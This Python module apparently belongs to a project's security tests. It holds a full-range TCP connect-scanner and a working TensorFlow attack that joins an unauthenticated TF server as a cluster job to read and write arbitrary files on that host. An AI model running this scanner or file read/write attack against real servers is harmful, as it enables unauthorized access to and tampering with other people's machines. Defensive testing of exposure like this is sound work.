"""An outsider's tools, for the security tests: a TCP connect-scan and the TensorFlow recipe
that runs ops on any TF server it reaches (TF servers have no authentication).

    python -m crowdd.testing.outsider scan IP [IP...]           → {"IP": [open ports]}
    python -m crowdd.testing.outsider attack IP:PORT CANARY OUT → {"read": ..., "wrote": ...}

``attack`` connects to ``IP:PORT`` as the cluster job ``victim`` and, on that task, reads the
file ``CANARY`` and writes ``OUT``: what any outsider could do to a volunteer whose TF port it
reaches. Run each attack in its own process with a timeout (:func:`tf_attack`): TF may hang on
a port that is not a TF server. So ``attack`` first asks the port whether it speaks gRPC (the
HTTP/2 preface: every gRPC server, TF's included, answers with its SETTINGS frame): one that
does not cannot run a TF op, and is reported at once without loading TF
(``test_outsider_tools.py`` shows an exposed TF server passing this probe and losing its file).
"""

from __future__ import annotations

import errno
import json
import select
import socket
import subprocess
import sys
import time
from collections.abc import Iterable, Sequence
from dataclasses import dataclass

ATTACK_TIMEOUT = 60.0


def scan(ip: str, ports: Iterable[int] = range(1, 65536), *, batch: int = 4000, timeout: float = 1.0) -> list[int]:
    """The TCP ports of ``ip`` that accept a connection (a connect-scan: ``batch`` non-blocking
    connects at a time, each given ``timeout`` seconds to answer)."""
    todo = list(ports)
    found: list[int] = []
    batch = max(1, min(batch, _socket_budget(batch) - 64))
    for start in range(0, len(todo), batch):
        pending: dict[int, tuple[socket.socket, int]] = {}
        poller = select.poll()
        for port in todo[start:start + batch]:
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.setblocking(False)
            err = s.connect_ex((ip, port))
            if err == 0:
                found.append(port)
                s.close()
            elif err in (errno.EINPROGRESS, errno.EWOULDBLOCK):
                pending[s.fileno()] = (s, port)
                poller.register(s, select.POLLOUT)
            else:
                s.close()
        deadline = time.monotonic() + timeout
        while pending and (left := deadline - time.monotonic()) > 0:
            for fd, _ev in poller.poll(left * 1000):
                s, port = pending.pop(fd)
                poller.unregister(fd)
                if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                    found.append(port)
                s.close()
        for s, _ in pending.values():
            s.close()
    return sorted(found)


def _socket_budget(want: int) -> int:
    """How many descriptors this process may open: the soft limit, raised toward the hard one
    when ``want`` needs more (a 1024 soft limit is common; a scan batch must stay below it)."""
    try:
        import resource
    except ImportError:  # not POSIX
        return want + 64
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft != resource.RLIM_INFINITY and soft < want + 64:
        target = want + 64 if hard == resource.RLIM_INFINITY else min(hard, want + 64)
        try:
            resource.setrlimit(resource.RLIMIT_NOFILE, (target, hard))
            soft = target
        except (ValueError, OSError):
            pass
    return want + 64 if soft == resource.RLIM_INFINITY else int(soft)


@dataclass(frozen=True)
class Attack:
    target: str
    read: bool
    wrote: bool
    error: str = ""

    @property
    def ran_an_op(self) -> bool:
        return self.read or self.wrote


def tf_attack(target: str, canary: str, out: str, *, argv_prefix: Sequence[str] = (),
              timeout: float = ATTACK_TIMEOUT) -> Attack:
    """Run :func:`_attack_main` against ``target`` in a child (``argv_prefix``: e.g. ``ip netns
    exec NS``) and report what it managed."""
    argv = [*argv_prefix, sys.executable, "-m", "crowdd.testing.outsider", "attack", target, canary, out]
    try:
        done = subprocess.run(argv, capture_output=True, text=True, timeout=timeout, stdin=subprocess.DEVNULL)
    except subprocess.TimeoutExpired:
        return Attack(target, False, False, f"no answer within {timeout:g} s")
    lines = [ln for ln in done.stdout.splitlines() if ln.startswith("{")]
    if not lines:
        tail = (done.stderr.strip().splitlines() or ["no output"])[-1]
        return Attack(target, False, False, f"exit {done.returncode}: {tail}")
    got = json.loads(lines[-1])
    return Attack(target, bool(got.get("read")), bool(got.get("wrote")), str(got.get("error", "")))


#: The client's HTTP/2 connection preface and an empty SETTINGS frame (RFC 9113, 3.4 and 6.5).
H2_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes([0, 0, 0, 4, 0, 0, 0, 0, 0])
H2_SETTINGS = 0x4


def speaks_grpc(target: str, timeout: float = 10.0) -> tuple[bool, str]:
    """Whether ``target`` answers the HTTP/2 preface with a SETTINGS frame (a gRPC server does),
    and what it did instead when not."""
    host, _, port = target.rpartition(":")
    try:
        with socket.create_connection((host, int(port)), timeout=timeout) as sock:
            sock.sendall(H2_PREFACE)
            head = b""
            while len(head) < 9:
                got = sock.recv(9 - len(head))
                if not got:
                    return False, f"closed after {len(head)} bytes"
                head += got
    except OSError as exc:
        return False, f"{type(exc).__name__}: {exc}"
    if head[3] != H2_SETTINGS:
        return False, f"answered {head[:9].hex()}, not an HTTP/2 SETTINGS frame"
    return True, ""


def _attack_main(target: str, canary: str, out: str) -> dict[str, object]:
    import os

    grpc, why = speaks_grpc(target)
    if not grpc:  # no TF client gets further than this
        return {"read": False, "wrote": False, "error": f"not a gRPC server: {why}"}
    os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "3")
    import tensorflow as tf

    result: dict[str, object] = {"read": False, "wrote": False}
    try:
        tf.config.experimental_connect_to_cluster(tf.train.ClusterSpec({"victim": [target]}), job_name="attacker")
        with tf.device("/job:victim/replica:0/task:0"):
            try:
                data = tf.io.read_file(canary).numpy()
                result["read"] = bool(data)
                result["content"] = data[:64].decode("utf-8", "replace")
            except Exception as exc:  # noqa: BLE001 - report, then try the write
                result["error"] = f"read: {type(exc).__name__}: {str(exc)[:200]}"
            try:
                tf.io.write_file(out, "written by an outsider")
                result["wrote"] = True
            except Exception as exc:  # noqa: BLE001
                result["error"] = f"{result.get('error', '')} write: {type(exc).__name__}: {str(exc)[:200]}"
    except Exception as exc:  # noqa: BLE001 - the attack failed: that is the point
        result["error"] = f"{type(exc).__name__}: {str(exc)[:300]}"
    return result


def main(argv: Sequence[str] | None = None) -> int:
    args = list(sys.argv[1:] if argv is None else argv)
    if args[:1] == ["scan"] and len(args) >= 2:
        print(json.dumps({ip: scan(ip) for ip in args[1:]}), flush=True)
        return 0
    if args[:1] == ["attack"] and len(args) == 4:
        print(json.dumps(_attack_main(args[1], args[2], args[3])), flush=True)
        return 0
    print(__doc__, file=sys.stderr)
    return 2


if __name__ == "__main__":
    sys.exit(main())


__all__ = ["Attack", "scan", "tf_attack"]
